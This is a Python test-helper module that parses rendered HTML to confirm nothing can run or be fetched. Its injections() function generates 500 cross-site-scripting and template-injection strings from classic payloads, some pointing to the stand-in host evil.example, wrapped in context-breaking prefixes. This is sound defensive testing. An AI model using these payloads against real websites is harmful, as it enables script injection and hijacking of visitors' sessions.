"""Reading HTML pages in tests, and texts that have broken out of pages elsewhere."""

from __future__ import annotations

import itertools
import re
from html.parser import HTMLParser

_ELEMENTS = """
    html head meta title link style body header h1 h2 h3 h4 p nav a div main section table thead tbody tr th td span b
    small svg rect line path circle text ul li details summary dl dt dd i figure figcaption strong form fieldset legend
    label input select option image use article pre footer script g caption code button dialog kbd ol
"""
ELEMENTS = frozenset(_ELEMENTS.split())
URL_ATTRIBUTES = frozenset({"href", "xlink:href", "src", "action", "formaction", "data", "srcset", "poster", "ping"})
SAFE_URL = re.compile(r"#[\w-]+|data:,|data:image/webp;base64,[A-Za-z0-9+/=]+")


class Page(HTMLParser):
    """The parts of a page: elements, attributes, and the raw text of scripts and styles."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[str] = []
        self.attributes: list[tuple[str, str, str]] = []
        self.raw: dict[str, list[str]] = {"script": [], "style": []}
        self.texts: list[str] = []
        self._inside: str | None = None
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append(tag)
        self.attributes += [(tag, name, value or "") for name, value in attrs]
        if tag in self.raw:
            self._inside = tag
            self.raw[tag].append("")

    def handle_endtag(self, tag: str) -> None:
        self._inside = None if tag == self._inside else self._inside

    def handle_data(self, data: str) -> None:
        if self._inside:
            self.raw[self._inside][-1] += data
        else:
            self.texts.append(data)

    def values(self, name: str) -> list[str]:
        return [value for _, found, value in self.attributes if found == name]


def assert_inert(html: str, scripts: list[str], style: str) -> Page:
    """Nothing but ``scripts`` can run, ``style`` is the only one, and nothing is fetched from anywhere."""
    page = Page(html)
    assert page.raw == {"script": scripts, "style": [style]}
    assert set(page.elements) <= ELEMENTS, set(page.elements) - ELEMENTS
    for tag, name, value in page.attributes:
        assert not name.startswith("on"), f"handler {name} on {tag}"
        assert name not in {"style", "srcdoc", "formaction", "background"}, name
        if name in URL_ATTRIBUTES:
            assert SAFE_URL.fullmatch(value), f"{tag} {name}={value[:80]!r}"
        if name == "http-equiv":
            assert value == "Content-Security-Policy"
    return page


def injections() -> list[str]:
    """500 strings that have broken out of pages elsewhere: payloads in the wrappings of different contexts."""
    payloads = [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<svg/onload=alert(1)>",
        "<svg><script href=data:,alert(1) />",
        "<iframe src=javascript:alert(1)>",
        '<a href="javascript:alert(1)">x</a>',
        "<a href=&#106;avascript:alert(1)>x</a>",
        "<body onload=alert(1)>",
        "<meta http-equiv=refresh content='0;url=http://evil.example'>",
        "<link rel=stylesheet href=http://evil.example/x.css>",
        "<style>@import 'http://evil.example/x.css'</style>",
        "<base href=http://evil.example>",
        "<form action=http://evil.example><input autofocus onfocus=alert(1)>",
        "<object data=http://evil.example>",
        "<embed src=//evil.example>",
        "<video><source onerror=alert(1)>",
        "<details open ontoggle=alert(1)>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
        "<template><script>alert(1)</script></template>",
        "{{ 7*7 }}{% raw %}{{ ''.__class__.__mro__ }}",
        "javascript:alert(1)",
        "' onmouseover='alert(1)",
        '" onmouseover="alert(1)',
        "` onmouseover=alert(1)",
    ]
    wrappings = [
        "{}",
        '"{}',
        "'{}",
        '">{}',
        "'>{}",
        "-->{}",
        "]]>{}",
        "</title>{}",
        "</style>{}",
        "</script>{}",
        "</svg>{}",
        "</textarea></select></option>{}",
        "<!--{}",
        "<![CDATA[{}",
        "&lt;{}",
        "\\x3c{}",
        "\x00{}",
        "\u202e{}\ud800",
        "<{}",
        "{} x" * 3,
    ]
    return [w.replace("{}", p) for p, w in itertools.product(payloads, wrappings)]
